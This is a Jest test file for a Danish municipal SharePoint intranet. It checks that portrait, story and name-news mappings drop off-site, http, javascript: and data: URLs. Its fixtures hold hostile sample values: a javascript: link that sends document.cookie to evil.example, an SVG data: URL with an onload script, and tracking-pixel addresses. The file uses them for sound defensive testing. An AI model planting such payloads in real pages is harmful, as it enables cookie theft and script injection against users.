/**
 * Every address the product renders from list data passes the one URL rule (src/shared/domain/urls.ts) in the data layer:
 * through real PnPjs against the local SharePoint, and in the mappings for values a list may hold however they got there.
 */
import { createRepositories } from '../support/repositories';
import { toNavnenytItem } from '../../src/features/navnenyt/data/navnenytMapping';
import { toPortrait } from '../../src/features/portraits/data/portraitMapping';
import { toStory } from '../../src/features/stories/data/storyMapping';
import type { IEmulator } from '../../emulator';
import { newEmulator, spAs, USERS } from '../emulator/helpers';

const TODAY = '2026-11-27';
const SITE = 'https://norddjurs.sharepoint.com/sites/intranet';
let emu: IEmulator;
let warn: jest.SpyInstance;

beforeEach(() => {
  emu = newEmulator({ today: TODAY });
  warn = jest.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(async () => {
  warn.mockRestore();
  await emu.close();
});

const warnings = (): string => warn.mock.calls.map((c: unknown[]) => String(c[0])).join('\n');

describe('addresses read through the repositories', () => {
  it('drops a portrait’s http job advert and a photo from another host, keeps the rest, and reports both in Danish', async () => {
    const [anneId] = emu.admin.addUsers([{ email: 'anne.hansen@norddjurs.dk', title: 'Anne Hansen' }]);
    emu.admin.addItems('Medarbejderportrætter', [
      { Title: 'Anne Hansen', MnEmployeeId: anneId, MnProfession: 'Pædagog', MnJobAdvertUrl: { Url: 'http://job.example/paedagog', Description: 'Job' }, MnPhoto: { Url: 'https://tracker.example/pixel.gif?u=anne', Description: 'Anne' } },
      { Title: 'Bo Ørum', MnProfession: 'Lærer', MnJobAdvertUrl: { Url: 'https://www.norddjurs.dk/job/laerer', Description: 'Job' }, MnPhoto: { Url: '/sites/intranet/Billeder/bo.jpg', Description: 'Bo' } },
    ], { authorEmail: USERS.comms });
    const feed = await createRepositories(spAs(emu, USERS.employee), emu.siteUrl).portraits.getPortraits({});
    const byName = new Map(feed.portraits.map((p) => [p.name, p]));
    expect(byName.get('Anne Hansen')).toMatchObject({ profession: 'Pædagog', jobAdvertUrl: undefined, photo: undefined });
    expect(byName.get('Bo Ørum')).toMatchObject({ jobAdvertUrl: 'https://www.norddjurs.dk/job/laerer', photo: { url: '/sites/intranet/Billeder/bo.jpg' } });
    expect(warnings()).toContain('MnJobAdvertUrl');
    expect(warnings()).toContain('kun https: (og webstedets egne adresser) er tilladt');
    expect(warnings()).toContain('billeder skal ligge på webstedet selv');
  });

  it('drops a story’s hero image and a name news photo from another host', async () => {
    emu.admin.addPages([{ name: 'klima.aspx', title: 'Klimaindsats', contentType: 'Medarbejderhistorie', bannerImageUrl: 'https://tracker.example/hero.png', canvas: [], published: '2026-11-20T09:00:00Z' }]);
    emu.admin.addItems('Navnenyt', [
      { Title: 'Anne Hansen', MnEventType: 'Jubilæum', MnEventDate: TODAY, MnYears: 25, MnConsentConfirmed: true, MnPhoto: { Url: 'https://tracker.example/anne.png', Description: 'Anne' } },
    ], { authorEmail: USERS.hr });
    const repos = createRepositories(spAs(emu, USERS.employee), emu.siteUrl);
    const [story] = await repos.stories.getStories({ today: TODAY });
    expect(story).toMatchObject({ title: 'Klimaindsats', heroImage: undefined });
    const [item] = await repos.navnenyt.getItems({ from: TODAY, to: TODAY });
    expect(item).toMatchObject({ name: 'Anne Hansen', photo: undefined });
  });
});

describe('the mappings, for values a list may hold however they got there', () => {
  it('never hands a component a javascript: job advert, a data: photo or a tracking pixel', () => {
    const portrait = toPortrait(
      { Id: 4, Title: 'Anne Hansen', MnJobAdvertUrl: { Url: 'javascript:fetch("https://evil.example/?c="+document.cookie)' }, MnLinkedInPostUrl: { Url: ' JAVASCRIPT:alert(1)' }, MnPhoto: { Url: 'data:image/svg+xml,<svg onload=alert(1)>' } },
      SITE,
    );
    expect(portrait).toMatchObject({ name: 'Anne Hansen', jobAdvertUrl: undefined, photo: undefined });
    expect(portrait?.channels.linkedIn).toEqual({ status: 'notShared', text: undefined, postUrl: undefined, sharedAt: undefined, removedAt: undefined });
    expect(toStory({ Id: 5, Title: 'Historie', BannerImageUrl: { Url: 'https://tracker.example/p.gif' } }, SITE)?.heroImage).toBeUndefined();
    const item = toNavnenytItem({ Id: 6, Title: 'Bo', MnEventType: 'Fødselsdag', MnEventDate: '2026-11-26T23:00:00Z', MnPhoto: { Url: `${SITE}/Lists/Navnenyt/Attachments/6/bo.jpg` }, MnPhotoAlt: 'Bo' }, SITE, 'Europe/Copenhagen');
    expect(item?.photo).toEqual({ url: `${SITE}/Lists/Navnenyt/Attachments/6/bo.jpg`, alt: 'Bo' });
    expect(warnings()).toMatch(/MnJobAdvertUrl \(element 4\)/);
    expect(warnings()).toMatch(/BannerImageUrl \(element 5\)/);
  });
});
